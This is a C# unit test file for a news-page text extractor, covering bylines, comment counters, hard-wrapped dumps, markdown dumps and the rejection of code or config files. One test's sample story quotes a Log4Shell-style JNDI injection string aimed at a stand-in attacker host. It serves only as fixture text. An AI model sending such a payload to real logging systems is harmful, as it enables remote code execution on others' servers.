using WireIngest.Core.Extraction;
using WireIngest.Core.Extraction.Text;
using WireIngest.Core.Model;
using WireIngest.Tests.TestSupport;

namespace WireIngest.Tests.Extraction.Text;

[TestFixture]
public sealed class TextPageExtractorTests
{
    private static ExtractedArticle ExtractSeed() => new TextPageExtractor().Extract(Samples.Read(Samples.SeedFileName)).Single();

    [Test]
    public void Extract_Seed_FindsHeadlineBylineAndCounter()
    {
        ExtractedArticle article = ExtractSeed();

        Assert.Multiple(() =>
        {
            Assert.That(article.Headline, Is.EqualTo("Ukraine asks NATO for membership invite next week, letter shows"));
            Assert.That(article.Byline, Is.EqualTo("By John Irish and Tom Balmforth"));
            Assert.That(article.CommentCount, Is.EqualTo(10));
            Assert.That(article.Syndicator, Is.EqualTo("Japan Today"));
            Assert.That(article.Format, Is.EqualTo(DocumentFormats.Text));
        });
    }

    [Test]
    public void Extract_Seed_BodyRunsFromLeadToLastParagraphWithoutComments()
    {
        ExtractedArticle article = ExtractSeed();
        string body = string.Join("\n\n", article.Body.Select(b => b.Text));

        Assert.Multiple(() =>
        {
            Assert.That(article.Body[0].Text, Does.StartWith("Ukrainian Foreign Minister Andrii Sybiha has urged"));
            Assert.That(article.Body[^1].Text, Does.EndWith("under the incoming administration of President-elect Donald Trump."));
            Assert.That(body, Does.Not.Contain("Comment").And.Not.Contain("( +").And.Not.Contain("Login").And.Not.Contain("©"));
            Assert.That(body, Does.Not.Contain("\u00A0"), "no-break spaces become plain spaces");
        });
    }

    [Test]
    public void Extract_Seed_KeepsCaptionWithCreditAndBothCopyrightLines()
    {
        ExtractedArticle article = ExtractSeed();

        Assert.Multiple(() =>
        {
            Assert.That(article.Pictures, Has.Count.EqualTo(1));
            Assert.That(article.Pictures[0].Caption, Does.StartWith("FILE PHOTO: Ukraine’s Foreign Minister").And.EndWith("Image: Reuters/Alina Smutko"));
            Assert.That(article.CopyrightLines, Is.EqualTo(new[] { "© Thomson Reuters 2024.", "©2024 GPlusMedia Inc." }));
        });
    }

    [Test]
    public void Extract_NoHeaderCounterButCounterAfterBody_UsesCounterNextToArticle()
    {
        string page = "Site\n\nA headline about markets today\n\nBy Jane Doe\n\nMarkets rose on Tuesday as investors weighed fresh data on inflation and jobs.\n\n"
            + "Analysts said the move was modest and expected more volatility in the coming weeks.\n\n3 Comments\n\nGreat story here, thanks for sharing it with us all.\n\n+2 ( +3 / -1 )";

        ExtractedArticle article = new TextPageExtractor().Extract(Samples.FromText(page)).Single();

        Assert.Multiple(() =>
        {
            Assert.That(article.CommentCount, Is.EqualTo(3));
            Assert.That(article.Body, Has.Count.EqualTo(2));
            Assert.That(article.Headline, Is.EqualTo("A headline about markets today"));
        });
    }

    [Test]
    public void Extract_HardWrappedDump_JoinsWrappedLinesIntoParagraphs()
    {
        string page = "Rates held steady in surprise move\n\n"
            + "The central bank kept its key interest rate unchanged on Thursday, defying\n"
            + "expectations of a cut as inflation proved stickier than policymakers had hoped\n"
            + "in the final months of the year, officials said in a statement.\n\n"
            + "Governor Ana Lopez told reporters the board would review its stance again\n"
            + "next month once fresh figures on wages and consumer prices were available\n"
            + "to the committee and its staff economists.";

        ExtractedArticle article = new TextPageExtractor().Extract(Samples.FromText(page)).Single();

        Assert.That(article.Body.Select(b => b.Text), Is.EqualTo(new[]
        {
            "The central bank kept its key interest rate unchanged on Thursday, defying expectations of a cut as inflation proved stickier than policymakers had hoped in the final months of the year, officials said in a statement.",
            "Governor Ana Lopez told reporters the board would review its stance again next month once fresh figures on wages and consumer prices were available to the committee and its staff economists.",
        }));
    }

    [TestCase("Home\n\nNews\n\nSports\n\nContact us", "not an article: no body paragraph found")]
    [TestCase("Breaking news\n\nThe requested article has expired, and is no longer available. Any related articles, and user comments are shown below.", "not an article: expired or removed notice")]
    public void Extract_NotAnArticle_RejectsWithReason(string page, string reason)
    {
        var ex = Assert.Throws<DocumentRejectedException>(() => new TextPageExtractor().Extract(Samples.FromText(page)));

        Assert.That(ex!.Message, Is.EqualTo(reason));
    }

    [Test]
    public void Extract_ProgramSource_RejectsAsNotAnArticle()
    {
        const string source = """
            using System.Text.Json;

            // Reads the queue and prints one summary line per message.
            var options = new JsonSerializerOptions { WriteIndented = false };
            foreach (string line in File.ReadLines(args[0]))
            {
                var summary = JsonSerializer.Deserialize<Summary>(line, options);
                Console.WriteLine($"{summary.Headline} ({summary.Agency})");
            }

            internal sealed record Summary(string Headline, string Agency);
            """;

        var ex = Assert.Throws<DocumentRejectedException>(() => new TextPageExtractor().Extract(Samples.FromText(source)));

        Assert.That(ex!.Message, Does.StartWith("not an article: program source ("));
    }

    [Test]
    public void Extract_ConfigurationFile_RejectsAsNotAnArticle()
    {
        const string compose = """
            # The emulator with the queue the worker publishes to. Needs Docker.
            name: wireingest-servicebus-emulator
            services:
              emulator:
                image: mcr.microsoft.com/azure-messaging/servicebus-emulator:latest
                ports:
                  - "5672:5672"
                environment:
                  SQL_SERVER: sqledge
                  ACCEPT_EULA: ${ACCEPT_EULA:-N}
                depends_on:
                  - sqledge
            """;

        var ex = Assert.Throws<DocumentRejectedException>(() => new TextPageExtractor().Extract(Samples.FromText(compose)));

        Assert.That(ex!.Message, Is.EqualTo("not an article: configuration file (9 of 12 lines are settings)"));
    }

    [Test]
    public void Extract_TechnicalMarkdown_RejectsAsNotAnArticle()
    {
        const string readme = """
            # Service Bus emulator

            `docker-compose.yml` starts the emulator with the `articles` queue.

            | setting | value |
            | --- | --- |
            | queue | articles |

            Keep the key in the environment (`WireIngest__ServiceBus__ConnectionString`), never in a file.
            """;

        var ex = Assert.Throws<DocumentRejectedException>(() => new TextPageExtractor().Extract(Samples.FromText(readme)));

        Assert.That(ex!.Message, Is.EqualTo("not an article: technical document (5 of 6 lines hold code, tables or fences)"));
    }

    [Test]
    public void Extract_MarkdownDumpOfAStory_ReadsHeadlineWithoutItsMark()
    {
        const string page = """
            # Ukraine asks NATO for membership invite next week

            By John Irish and Tom Balmforth

            Ukrainian Foreign Minister Andrii Sybiha has urged his NATO counterparts to invite Kyiv to join the alliance at a meeting next week, according to a letter seen by Reuters.

            ## What the letter says

            Image: Reuters/Alina Smutko
            Date: Nov 29, 2024

            Kyiv wants an invitation to be issued at the meeting of NATO foreign ministers in Brussels on Dec. 3-4, the letter says, though it does not expect to join while the war goes on.

            Officials say the alliance won`t decide before its summit, and diplomats doubt it will agree at all.
            """;

        ExtractedArticle article = new TextPageExtractor().Extract(Samples.FromText(page)).Single();

        Assert.Multiple(() =>
        {
            Assert.That(article.Headline, Is.EqualTo("Ukraine asks NATO for membership invite next week"));
            Assert.That(article.Body.Select(b => b.Text), Has.None.StartsWith("#"));
        });
    }

    [Test]
    public void Extract_MarkdownDumpWithLinksAndPictures_ReadsTheWords()
    {
        const string page = """
            # Ukraine asks NATO for membership invite next week

            ![Image 1: Ukraine's Foreign Minister Andrii Sybiha](https://img.example.com/sybiha.jpg)

            By [John Irish](https://www.example.com/authors/john-irish/) and [Tom Balmforth](https://www.example.com/authors/tom-balmforth/)

            Ukrainian Foreign Minister Andrii Sybiha has urged his [NATO](https://www.example.com/world/nato "NATO") counterparts to invite Kyiv to join the alliance at a meeting next week, according to a letter seen by Reuters.

            Kyiv wants an invitation to be issued at the meeting of NATO foreign ministers in Brussels on Dec. 3-4, the letter says, though it does not expect to join while the war goes on.

            Officials said the alliance would not decide before its summit, and diplomats doubted it would agree at all this year.
            """;

        ExtractedArticle article = new TextPageExtractor().Extract(Samples.FromText(page)).Single();

        Assert.Multiple(() =>
        {
            Assert.That(article.Byline, Is.EqualTo("By John Irish and Tom Balmforth"));
            Assert.That(article.Body[0].Text, Does.StartWith("Ukrainian Foreign Minister Andrii Sybiha has urged his NATO counterparts to invite Kyiv"));
            Assert.That(article.Body.Select(b => b.Text), Has.None.Contains("](").And.None.Contains("!["));
        });
    }

    [Test]
    public void Extract_StoryQuotingCode_IsAStory()
    {
        const string story = """
            Developers rush to patch logging flaw

            By Jane Doe

            Thousands of companies rushed on Friday to patch a flaw in a widely used logging library, security researchers said, after attackers began scanning the internet for vulnerable servers.

            The flaw lets an attacker run code by sending a single line of text, such as:

            logger.info("${jndi:ldap://attacker.example/a}");

            Researchers advised administrators to upgrade at once, and to block outbound connections from servers that do not need them, while vendors shipped fixes over the weekend.

            "This is as bad as it gets," one researcher said, adding that the scanning had started within hours of the disclosure.
            """;

        Assert.That(new TextPageExtractor().Extract(Samples.FromText(story)).Single().Body, Is.Not.Empty);
    }

    [TestCase("<html><body>x</body></html>", false)]
    [TestCase("{\"uri\":\"x\"}", false)]
    [TestCase("Plain text page\n\nBody.", true)]
    [TestCase("\uFEFFPlain text with BOM", true)]
    public void CanExtract_ByFirstCharacter_TakesOnlyPlainText(string head, bool expected)
    {
        Assert.That(new TextPageExtractor().CanExtract(System.Text.Encoding.UTF8.GetBytes(head)), Is.EqualTo(expected));
    }
}
